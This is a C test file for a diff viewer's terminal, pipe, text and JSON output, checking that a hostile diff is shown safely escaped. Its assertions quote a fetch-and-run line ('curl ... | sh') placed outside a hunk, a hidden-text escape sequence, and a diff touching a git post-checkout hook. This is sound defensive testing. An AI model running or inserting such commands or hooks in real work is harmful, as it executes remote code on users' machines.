/* --diff, as the shell sees it: on a screen, through a pipe, as text and as JSON. */
#include "support/support.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "e2e/project.h"
#include "support/pty.h"

#define LONG 20000 /* ms */

static struct pty *start(const struct test_project *p, const char *command, int width, int height)
{
	const char *argv[] = { "/bin/sh", "-c", command, NULL };

	return pty_start(argv, test_environment(p), p->stage, width, height);
}

static void leave(struct pty *pty)
{
	const char *fault;

	pty_send(pty, "Q");
	assert_int_equal(pty_exit(pty, LONG), 0);
	fault = pty_not_restored(pty);
	if (fault)
		fail_msg("the terminal is not as before: %s", fault);
	fault = pty_foreign_bytes(pty_output(pty));
	if (fault)
		fail_msg("a foreign sequence reached the terminal: %s", fault);
	pty_end(pty);
}

static void command_of(
	char *out, size_t size, const char *before, const char *file, const char *after)
{
	snprintf(out, size, "%s%s/patches/%s%s", before, test_data(), file, after);
}

/* STG-2: no byte of a hostile diff reaches the terminal as it is, in any mode. */
static void stg_2_hostile_diff_on_a_screen(void **state)
{
	static const char *const keys[] = { "|", "Z", "W", "\r", "l", "!", "G", "/red\r", "?",
		"\033" };
	struct test_project p;
	char command[1024], before[600];
	struct pty *pty;

	test_project_begin(&p, NULL);
	snprintf(before, sizeof(before), "exec %s --diff ", test_program());
	command_of(command, sizeof(command), before, "hostile.diff", "");
	pty = start(&p, command, 130, 40);
	pty_expect(pty, "6 warnings");
	pty_expect(pty, "<U+202E RLO>");
	for (size_t i = 0; i < AT_LEN(keys); i++) {
		pty_send(pty, keys[i]);
		pty_settle(pty, 80);
	}
	leave(pty);
	test_project_end(&p);
}

/* UI-5: standard input is the diff, the keys come from the terminal; a slow writer holds
 * nothing up. */
static void ui_5_diff_through_a_pipe(void **state)
{
	struct test_project p;
	char command[2048];
	struct pty *pty;

	test_project_begin(&p, NULL);
	snprintf(command, sizeof(command),
		"mkfifo go; (printf -- '--- a\\n+++ b\\n@@ -1 +1 @@\\n-old\\n'; cat go; "
		"printf -- '+new\\n') | %s --diff -",
		test_program());
	pty = start(&p, command, 80, 24);
	pty_expect(pty, "- old");
	pty_expect(pty, "reading, 0 KiB");
	pty_send(pty, "?"); /* the writer still waits, keys work */
	pty_expect(pty, "Type to filter");
	pty_send(pty, "\033");
	test_write(p.stage, "go", ""); /* opens and closes it */
	pty_expect(pty, "+ new");
	leave(pty);
	command_of(command, sizeof(command), "cat ", "sample.diff", " | ");
	snprintf(command + strlen(command), sizeof(command) - strlen(command), "%s --diff -",
		test_program());
	pty = start(&p, command, 120, 40);
	pty_expect(pty, "+15 -11 in 5 hunks of 4 files");
	pty_send(pty, "}");
	pty_expect(pty, "src/limits.c   file 1/4");
	leave(pty);
	test_project_end(&p);
}

/* UI-7: without a terminal it is safe text or JSON, with an honest status. */
static void ui_7_diff_as_a_report(void **state)
{
	struct test_project p;
	char words[1024];
	const char *out;

	test_project_begin(&p, NULL);
	command_of(words, sizeof(words), "--diff ", "hostile.diff", "");
	out = test_expect(&p, 0, words);
	assert_non_null(strstr(out, "\n! in no hunk: +curl http://example.org/x | sh\n"));
	assert_non_null(strstr(out, "\n-old ^[[8mhidden^[[0m text\n"));
	for (const char *c = out; *c; c++)
		assert_true((unsigned char)*c >= 0x20 || *c == '\n' || *c == '\t');
	command_of(words, sizeof(words), "--color always --diff ", "hostile.diff", "");
	out = test_expect(&p, 0, words);
	assert_non_null(strstr(out, "\033[33m! in no hunk"));
	command_of(words, sizeof(words), "--json --diff ", "hostile.diff", "");
	out = test_expect(&p, 0, words);
	assert_non_null(strstr(out, "\"id\": \"outside-hunk\",\n      \"line\": 10\n"));
	assert_non_null(strstr(out, "\"warning_count\": 6"));
	assert_non_null(strstr(out, "\"name\": \".git/hooks/post-checkout\""));
	command_of(words, sizeof(words), "--json --diff ", "sample.diff", "");
	out = test_expect(&p, 0, words);
	assert_non_null(strstr(out, "\"complete\": true"));
	assert_non_null(strstr(out, "\"warning_count\": 0"));
	test_expect(&p, 1, "--diff there-is-none");
	test_expect(&p, 2, "--diff .");
	test_expect(&p, 0, "--diff -"); /* nothing comes: nothing to show */
	test_expect(&p, 2, "--diff x --status");
	test_project_end(&p);
}

int test_diff(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(stg_2_hostile_diff_on_a_screen),
		cmocka_unit_test(ui_5_diff_through_a_pipe),
		cmocka_unit_test(ui_7_diff_as_a_report),
	};

	return cmocka_run_group_tests_name("diff", tests, NULL, NULL);
}
